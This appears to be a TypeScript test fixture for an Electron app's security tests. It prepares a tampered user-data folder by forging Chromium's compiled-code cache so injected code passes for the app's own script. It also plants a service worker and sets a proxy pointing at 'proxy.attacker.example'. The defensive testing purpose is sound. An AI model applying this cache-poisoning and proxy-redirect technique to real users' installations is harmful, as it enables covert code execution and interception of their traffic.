import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { appOrigin, appScheme } from '../../../src/main/app/app-address'
import { chromiumFolderName } from '../../../src/main/files/store/chromium-folder'
import { appFolder } from './app'

const assets = join(appFolder, 'out', 'renderer', 'assets')
/** Expression of a page that is true where prepared code ran in it. */
export const hasRun = 'globalThis.preparedCodeRan === true'
export const preparedProxy = 'proxy.attacker.example:8080'

/** An app of an attacker that has the app's pages, with its own text in place of one script, and a service worker. */
const attackingMain = (script: string, text: string) => `
const { app, BrowserWindow, protocol } = require('electron')
const { readFileSync } = require('node:fs')
const privileges = { standard: true, secure: true, supportFetchAPI: true, codeCache: true, allowServiceWorkers: true }
protocol.registerSchemesAsPrivileged([{ scheme: '${appScheme}', privileges }])
const page = '<script>globalThis.preparedCodeRan = true</script>'
const worker = 'onfetch = (event) => event.respondWith(new Response(' + JSON.stringify(page) +
  ', { headers: { "content-type": "text/html" } }))'
const bodies = {
  '/index.html': ['text/html', '<script type="module" crossorigin src="./assets/${script}"></script>'],
  '/assets/${script}': ['text/javascript', readFileSync(${JSON.stringify(text)})],
  '/worker.js': ['text/javascript', worker],
}
app.on('window-all-closed', () => undefined)
app.whenReady().then(async () => {
  protocol.handle('${appScheme}', ({ url }) => {
    const [type, body] = bodies[new URL(url).pathname] ?? []
    return new Response(body, body ? { headers: { 'content-type': type } } : { status: 404 })
  })
  // Chromium keeps compiled code of a script that several pages ran.
  for (const last of [false, false, false, true]) {
    const window = new BrowserWindow({ show: false })
    await window.loadURL('${appOrigin}/index.html')
    if (last)
      await window.webContents.executeJavaScript(
        'navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(() => 1)',
      )
    window.destroy()
  }
  app.quit()
})
`

/** SHA-256 by which Chromium knows a script again, of its characters and of how wide they are. */
function scriptHash(text: string): Buffer {
  const isWide = /[^\0-\xff]/.test(text)
  return createHash('sha256')
    .update(Buffer.from(text, isWide ? 'utf16le' : 'latin1'))
    .update(Buffer.from([isWide ? 0 : 1]))
    .digest()
}

/** Marks the end of a part of a cache file; flags follow, of which the lowest says that a checksum is there. */
const endOfPart = Buffer.from('d8410d97456ffaf4', 'hex')

/** Makes compiled code of one script pass for that of another, which must be as long. @returns whether there was one */
function passOff(file: string, from: string, to: string): boolean {
  const bytes = readFileSync(file)
  const at = bytes.indexOf(scriptHash(from))
  if (at < 0) return false
  scriptHash(to).copy(bytes, at)
  for (let end = bytes.indexOf(endOfPart); end >= 0; end = bytes.indexOf(endOfPart, end + 1)) {
    const flags = end + endOfPart.length
    bytes.writeUInt32LE((bytes.readUInt32LE(flags) & ~1) >>> 0, flags)
  }
  writeFileSync(file, bytes)
  return true
}

/**
 * Puts into a user data folder what runs foreign code in the app's page and leads requests through a proxy, where Chromium
 * heeds it: compiled code of the page's script, a service worker, and settings. Does so for both places where Chromium's
 * files were and are.
 */
export function prepareFolder(userData: string): void {
  const script = readdirSync(assets).find((name) => /^start-.*\.js$/.test(name)) ?? ''
  const real = readFileSync(join(assets, script), 'utf8')
  const ours = `globalThis.preparedCodeRan = true;/*${'x'.repeat(5000)}*/`.padEnd(real.length)
  const folder = mkdtempSync(join(tmpdir(), 'attacking-'))
  const made = join(folder, 'data')
  try {
    writeFileSync(join(folder, 'package.json'), '{"name":"attacking","main":"main.cjs"}')
    writeFileSync(join(folder, 'script.js'), ours)
    writeFileSync(join(folder, 'main.cjs'), attackingMain(script, join(folder, 'script.js')))
    const args = [folder, `--user-data-dir=${made}`, '--disable-gpu']
    execFileSync(process.env['ELECTRON_EXEC_PATH'] ?? '', args, {
      stdio: 'ignore',
      timeout: 60_000,
    })
    const compiled = join(made, 'Code Cache', 'js')
    const files = readdirSync(compiled).filter((name) => name.endsWith('_0'))
    if (!files.map((name) => passOff(join(compiled, name), ours, real)).includes(true))
      throw new Error('Chromium kept no compiled code of the script')
    const proxy = { mode: 'fixed_servers', server: preparedProxy }
    writeFileSync(join(made, 'Preferences'), JSON.stringify({ proxy }))
    for (const to of [userData, join(userData, chromiumFolderName)])
      cpSync(made, to, { recursive: true, filter: (path) => !/Singleton\w+$/.test(path) })
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
}
